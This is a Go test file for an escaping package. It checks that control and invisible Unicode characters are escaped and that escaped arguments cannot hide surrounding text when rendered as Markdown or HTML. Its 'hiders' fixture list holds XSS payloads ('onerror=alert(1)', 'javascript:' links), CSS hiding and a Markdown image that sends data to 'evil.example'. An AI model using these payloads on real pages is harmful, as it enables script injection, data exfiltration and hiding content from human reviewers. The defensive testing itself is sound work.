package escaped

import (
	"bytes"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
	nethtml "golang.org/x/net/html"
)

func TestText(t *testing.T) {
	for text, want := range map[string]string{
		"größe 日本":                  "größe 日本",
		"a\u202eb\u200b":            `a\u202eb\u200b`,
		"\x1b[2J\tx\n":              `\x1b[2J x `,
		"\u3164\u2800\ufe0f":        `\u3164\u2800\ufe0f`,
		"e\u0301\u0301\u0301\u0301": "e\u0301\u0301" + `\u0301\u0301`,
		"a\u00a0b":                  `a\u00a0b`,
	} {
		if got := Text(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// hiders are texts that hide themselves, or what follows, where Markdown or HTML is rendered.
var hiders = []string{
	`[Lunch on Friday](/x '`, `')`, `![x](https://evil.example/?d=S)`, `<!--`, `-->`, `<b`, `<img src=x onerror=alert(1)>`,
	"`", "``", "<script>", "</p><style>*{display:none}</style>", "[x]: /y 'z", "[x][y]", "~~x~~", "a | b | c", "$x$", "&lt;b&gt;", "&#60;b>",
	`\`, `\[x\](javascript:alert(1))`, "`x`", `[x](javascript:alert(1))`, "**x**", "__x__", "<https://evil.example>", "[^1]", "<details><summary>ok</summary>", "*", "# x", "- [ ] x", "\u3164", "]", "[", "(", "x](javascript:alert(1))",
}

// What [Markup] returns stays words, alone and between the halves of any hider, for readers of
// Markdown and of HTML.
func TestMarkupHidesNothing(t *testing.T) {
	markdown := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.Typographer), goldmark.WithRendererOptions(html.WithUnsafe()))
	for _, one := range hiders {
		for _, two := range hiders {
			text := "Arguments:\n- a: " + Markup(one) + "\n- b: attacker\n- c: " + Markup(two) + "\n\nThe session has read: nothing"
			var rendered bytes.Buffer
			if err := markdown.Convert([]byte(text), &rendered); err != nil {
				t.Fatal(err)
			}
			for _, page := range []string{rendered.String(), text} {
				shown := visible(t, page)
				for _, want := range []string{"a:", "b: attacker", "c:", "The session has read: nothing"} {
					if !strings.Contains(shown, want) {
						t.Fatalf("%q and %q hide %q: %s", one, two, want, shown)
					}
				}
			}
		}
	}
}

// visible returns the words of a page, and fails if it has an element beyond paragraphs and lists. An
// address that GFM makes a link of by itself is shown whole.
func visible(t *testing.T, page string) string {
	t.Helper()
	root, err := nethtml.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var words strings.Builder
	for n := range root.Descendants() {
		switch n.Type {
		case nethtml.TextNode:
			words.WriteString(n.Data)
		case nethtml.CommentNode:
			t.Errorf("a comment: %s", page)
		case nethtml.ElementNode:
			switch n.Data {
			case "html", "head", "body", "p", "ul", "li", "br":
			case "a":
				if n.FirstChild == nil || n.FirstChild != n.LastChild || !strings.HasSuffix(n.Attr[0].Val, n.FirstChild.Data) {
					t.Errorf("a link: %s", page)
				}
			default:
				t.Errorf("an element %s: %s", n.Data, page)
			}
		}
	}
	return words.String()
}
